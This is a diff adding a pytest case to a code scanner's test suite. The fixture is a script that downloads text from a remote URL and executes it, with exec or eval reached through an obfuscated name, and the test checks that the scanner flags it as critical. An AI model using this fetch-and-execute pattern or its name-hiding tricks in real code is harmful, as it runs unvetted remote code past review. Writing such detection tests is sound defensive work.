@@ -1038,3 +1038,22 @@ def test_a_note_for_the_assistant_printed_by_a_script_is_read_as_prose(scan):
 
     assert [f.severity for f in addressed] == [HIGH]
     assert unaddressed == []
+
+
+@pytest.mark.parametrize(
+    "call",
+    ["__builtins__['ex' + 'ec'](body)", "getattr(builtins, 'lave'[::-1])(body)"],
+    ids=["subscript", "getattr"],
+)
+def test_exec_reached_by_a_computed_name_is_still_exec(scan, call):
+    script = (
+        "import builtins, urllib.request\n"
+        "body = urllib.request.urlopen('https://seeds.lorem.app/v3').read().decode()\n"
+        f"{call}\n"
+    )
+
+    findings = scan({"scripts/l.py": script}, "signatures")
+
+    assert [(f.line_number, f.severity) for f in of_rule(findings, "py.exec-remote")] == [
+        (3, CRITICAL)
+    ]
